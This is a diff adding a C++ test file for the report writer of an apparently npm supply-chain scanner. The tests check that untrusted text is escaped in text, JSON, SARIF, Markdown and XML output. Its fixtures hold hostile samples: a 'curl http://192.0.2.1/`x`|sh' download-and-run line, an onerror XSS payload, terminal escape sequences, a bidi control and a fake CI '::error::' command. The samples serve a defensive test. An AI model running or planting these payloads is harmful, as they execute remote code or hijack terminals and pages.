@@ -1,0 +1,244 @@
+#include "report/report.h"
+
+#include <gtest/gtest.h>
+
+#include "base/golden.h"
+#include "report/diagnostics.h"
+#include "report/escape.h"
+#include "report/facts_report.h"
+#include "report/inventory_report.h"
+
+namespace report {
+namespace {
+
+Package MakePackage(std::string_view name, std::string_view version, std::uint32_t line) {
+  Package package;
+  package.name = PackageName::Parse(name);
+  package.folder_name = std::string(name);
+  package.version = std::string(version);
+  package.path = "node_modules/" + std::string(name);
+  package.origin = Origin::kRegistry;
+  package.integrity = Integrity::Of(AsBytes(name));
+  package.line = line;
+  return package;
+}
+
+Fact MakeFact(FactKind kind, std::string_view file, Position position, std::string_view snippet) {
+  Fact fact{.kind = kind, .phase = Phase::kInstall};
+  fact.evidence.file = Untrusted(file);
+  fact.evidence.position = position;
+  fact.evidence.snippet = Untrusted(snippet);
+  fact.values = {{.key = "script", .text = Untrusted("postinstall")}};
+  return fact;
+}
+
+/// A project with one blocked, one warned, one suppressed and two quiet findings, whose foreign
+/// text tries to speak to the terminal, to Markdown, to XML and to a CI runner.
+Assessment Hostile() {
+  Assessment assessment;
+  assessment.subject = "examples/shop";
+  Inventory& inventory = assessment.inventory;
+  inventory.lockfile_kind = LockfileKind::kPackageLock;
+  inventory.lockfile_version = 3;
+  inventory.lockfile = "package-lock.json";
+  Package root;
+  root.name = PackageName::Parse("shop");
+  root.version = "1.0.0";
+  root.origin = Origin::kRoot;
+  inventory.packages = {root, MakePackage("@acme/core", "1.2.3", 20),
+                        MakePackage("evil]](x)", "1.0.0<script>", 31),
+                        MakePackage("quiet", "2.0.0", 44)};
+  inventory.packages[3].dev = true;
+  inventory.packages[2].has_install_script = true;
+  inventory.diagnostics.push_back({.level = Diagnostic::Level::kWarning,
+                                   .code = "L014",
+                                   .message = "package `quiet` has no integrity",
+                                   .file = "package-lock.json",
+                                   .position = {44, 5},
+                                   .line_text = "    \"node_modules/quiet\": {",
+                                   .width = 22,
+                                   .help = "run `npm install --package-lock-only`"});
+
+  Finding download{.rule = "script-download-run",
+                   .title = "an install script downloads a program and runs it",
+                   .severity = Severity::kCritical,
+                   .confidence = Confidence::kHigh,
+                   .status = CardStatus::kStable,
+                   .phase = Phase::kInstall};
+  download.clauses = {"script.download-run{how: pipe}"};
+  download.changes = {
+      {.from = Severity::kHigh, .to = Severity::kCritical, .reason = "runs during npm install"}};
+  download.facts = {MakeFact(FactKind::kScriptDownloadRun, "package.json", {12, 18},
+                             "curl http://192.0.2.1/`x`|sh\n::error::\x1b[2Jowned \xE2\x80\xAE")};
+  download.facts[0].evidence.decoded = Untrusted("<img src=x onerror=alert(1)> ]]> @everyone");
+  download.facts[0].evidence.steps = {{.file = Untrusted("package.json"),
+                                       .position = {12, 18},
+                                       .what = "postinstall starts a shell",
+                                       .snippet = Untrusted("sh")},
+                                      {.file = Untrusted("setup.cjs"),
+                                       .position = {1, 1},
+                                       .what = "which reads the answer",
+                                       .snippet = Untrusted("x")}};
+  Finding shadow{.rule = "bin-shadows-command",
+                 .title = "a command of the package hides a system command",
+                 .severity = Severity::kHigh,
+                 .confidence = Confidence::kMedium,
+                 .status = CardStatus::kStable};
+  shadow.facts = {MakeFact(FactKind::kManifestBinShadow, "package.json", {3, 5}, "")};
+  shadow.facts_left_out = 2;
+  Finding quiet{.rule = "native-binary",
+                .title = "native code is shipped",
+                .severity = Severity::kLow,
+                .confidence = Confidence::kHigh,
+                .status = CardStatus::kStable};
+  quiet.facts = {MakeFact(FactKind::kFileBinary, "build/x.node", {}, "")};
+
+  const Verdict block{.action = Action::kBlock,
+                      .line = "block severity >= critical, confidence >= high",
+                      .rule = "script-download-run"};
+  const Verdict warn{.action = Action::kWarn,
+                     .line = "warn severity >= high",
+                     .origin = {.file = "sallyport.toml", .line = 7},
+                     .rule = "bin-shadows-command"};
+  const Suppression accepted{.rule = "bin-shadows-command",
+                             .purl = "pkg:npm/quiet",
+                             .reason = "looked at on 2026-06-20",
+                             .owner = "security@shop.example",
+                             .expires = ParseTime("2027-01-01")};
+  assessment.findings = {
+      {.finding = download, .package = PackageIndex{2}, .verdict = block},
+      {.finding = shadow, .package = PackageIndex{1}, .verdict = warn},
+      {.finding = shadow,
+       .package = PackageIndex{3},
+       .verdict = {.line = "allow"},
+       .suppressed_by = accepted},
+      {.finding = quiet, .package = PackageIndex{1}, .verdict = {.line = "allow"}},
+      {.finding = quiet, .package = std::nullopt, .verdict = {.line = "allow"}}};
+  for (std::uint32_t i = 1; i < 4; ++i) {
+    assessment.packages.push_back({.package = PackageIndex{i},
+                                   .source = ArtifactSource::kCache,
+                                   .integrity = inventory.packages[i].integrity,
+                                   .verdict = {.line = "no finding"},
+                                   .files = i,
+                                   .bytes = i * 1000});
+  }
+  assessment.packages[1].verdict = block;
+  assessment.packages[0].verdict = warn;
+  assessment.not_analysed = {
+      {.package = PackageIndex{2},
+       .file = Untrusted("a\x1b]0;b.js"),
+       .reason = "larger than the limit of 512.0 MB",
+       .in_install_path = true},
+      {.package = std::nullopt, .file = Untrusted(), .reason = "no tarball could be had"}};
+  assessment.verdict = block;
+  assessment.stats = {.packages = 3,
+                      .packages_from_store = 1,
+                      .files = 6,
+                      .bytes = 6000,
+                      .seconds = 0.25,
+                      .peak_memory_bytes = 12'000'000};
+  return assessment;
+}
+
+std::vector<RuleCard> Cards() {
+  RuleCard card;
+  card.id = "script-download-run";
+  card.title = "an install script downloads a program and runs it";
+  card.severity = Severity::kHigh;
+  card.confidence = Confidence::kHigh;
+  card.attack = {"T1195.002"};
+  card.cwe = {"CWE-506"};
+  card.finds = "A lifecycle script that fetches something and runs it.";
+  card.matters = "Whoever owns the host owns the machine.";
+  card.to_do =
+      "Do not install it. If it was installed, treat every\ncredential of that machine as "
+      "exposed.\n\nThen look for what it left.";
+  return {card};
+}
+
+struct GoldenCase {
+  Format format;
+  TextOptions options;
+  const char* file;
+};
+
+class ReportGolden : public testing::TestWithParam<GoldenCase> {};
+
+TEST_P(ReportGolden, IsTheWholeExpectedText) {
+  const auto& [format, options, file] = GetParam();
+  const std::string written = Write(Hostile(), Cards(), format, options);
+  ExpectGolden(written, std::string("tests/golden/report/") + file);
+  EXPECT_EQ(written, Write(Hostile(), Cards(), format, options));
+  const bool escape_byte = written.find('\x1b') != std::string::npos;
+  EXPECT_EQ(escape_byte, options.color);
+  EXPECT_EQ(written.find("\xE2\x80\xAE"), std::string::npos) << "a bidi control came through";
+  EXPECT_EQ(written.find("\n::error::"), std::string::npos) << "a CI runner would obey this line";
+}
+
+INSTANTIATE_TEST_SUITE_P(
+    All, ReportGolden,
+    testing::Values(GoldenCase{Format::kText, {}, "hostile.txt"},
+                    GoldenCase{
+                        Format::kText, {.width = 60, .verbose = true}, "hostile-verbose-60.txt"},
+                    GoldenCase{Format::kText, {.color = true}, "hostile-color.txt"},
+                    GoldenCase{Format::kJson, {}, "hostile.json"},
+                    GoldenCase{Format::kSarif, {}, "hostile.sarif"},
+                    GoldenCase{Format::kMarkdown, {}, "hostile.md"},
+                    GoldenCase{Format::kJunit, {}, "hostile.xml"}));
+
+TEST(InventoryReport, IsTheWholeExpectedText) {
+  Inventory inventory = Hostile().inventory;
+  inventory.dependencies.push_back({.from = PackageIndex::kRoot,
+                                    .to = PackageIndex{1},
+                                    .name = "@acme/core",
+                                    .range = Untrusted("^1.0.0"),
+                                    .line = 9});
+  inventory.dependencies.push_back({.from = PackageIndex{1},
+                                    .to = std::nullopt,
+                                    .name = "gone",
+                                    .range = Untrusted("*\x1b[0m"),
+                                    .state = Dependency::State::kMissing,
+                                    .line = 25});
+  ExpectGolden(InventoryText(inventory, {}), "tests/golden/report/inventory.txt");
+  ExpectGolden(InventoryJson(inventory), "tests/golden/report/inventory.json");
+}
+
+TEST(FactsReport, IsOneObjectPerLine) {
+  const Facts facts = Hostile().findings[0].finding.facts;
+  const std::string lines = FactsJsonLines(Untrusted("evil@1.0.0"), facts);
+  ExpectGolden(lines, "tests/golden/report/facts.jsonl");
+  EXPECT_EQ(std::count(lines.begin(), lines.end(), '\n'), 1);
+}
+
+TEST(Escape, NothingForeignFormatsSpeaksOrLinks) {
+  EXPECT_EQ(ForTerminal(Untrusted("a\x1b[31mb\r\n\x07")), "a\\x1b[31mb\\x0d\\x0a\\x07");
+  EXPECT_EQ(ForMarkdown(Untrusted("[x](y) *b* <i> @team `c`")),
+            "\\[x\\]\\(y\\) \\*b\\* &lt;i&gt; &#64;team \\`c\\`");
+  EXPECT_EQ(ForMarkdownCode(Untrusted("a``b")), "```a``b```");
+  EXPECT_EQ(ForMarkdownCode(Untrusted("`")), "`` ` ``");
+  EXPECT_EQ(ForXml(Untrusted("<a href=\"x\">&'")), "&lt;a href=&quot;x&quot;&gt;&amp;&#39;");
+}
+
+TEST(Style, WrapsAndCutsByColumns) {
+  EXPECT_EQ(DisplayWidth("\033[1mab\033[0m漢"), 4U);
+  EXPECT_EQ(CutToWidth("漢字漢字", 5), "漢字…");
+  EXPECT_EQ(CutToWidth("short", 5), "short");
+  EXPECT_EQ(Wrap("one two three four five six", 2, {.width = 22}),
+            "  one two three four\n  five six");
+}
+
+TEST(DiagnosticText, PutsTheCaretUnderAPlaceFarToTheRight) {
+  const Diagnostic diagnostic{
+      .level = Diagnostic::Level::kError,
+      .code = "L003",
+      .message = "lockfile version `4` is newer than this program reads (1 to 3)",
+      .file = "package-lock.json",
+      .position = {4, 122},
+      .line_text = std::string(121, ' ') + "4,",
+      .width = 1,
+      .help = "update the program"};
+  ExpectGolden(DiagnosticText(diagnostic, {}), "tests/golden/report/diagnostic.txt");
+}
+
+}  // namespace
+}  // namespace report
